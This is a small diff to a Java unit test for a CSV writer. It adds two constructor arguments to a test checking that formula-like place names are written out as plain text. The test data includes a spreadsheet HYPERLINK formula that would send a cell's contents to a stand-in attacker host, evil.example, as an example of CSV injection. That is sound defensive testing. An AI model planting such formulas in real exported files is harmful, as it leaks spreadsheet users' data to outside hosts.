@@ -17,7 +17,8 @@ class GapCsvTest {
     void aPlaceNamedLikeAFormulaIsWrittenAsText() throws IOException {
         String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
         Gap gap = new Gap(7, "46000", "open", null, false, "none", 3, 1.5, 40, 40, (short) -125, List.of(formula), 300,
-                List.of("@SUM(1+1)"), 2.0, 0, 10.0, new GeometryFactory().createPoint(new Coordinate(113.1, 41.0)), List.of());
+                List.of("@SUM(1+1)"), 2.0, 0, 10.0, new GeometryFactory().createPoint(new Coordinate(113.1, 41.0)), List.of(),
+                "high", 0.0001);
         StringWriter out = new StringWriter();
         GapCsv.write(List.of(gap), out);
         String row = out.toString().lines().skip(1).findFirst().orElseThrow();
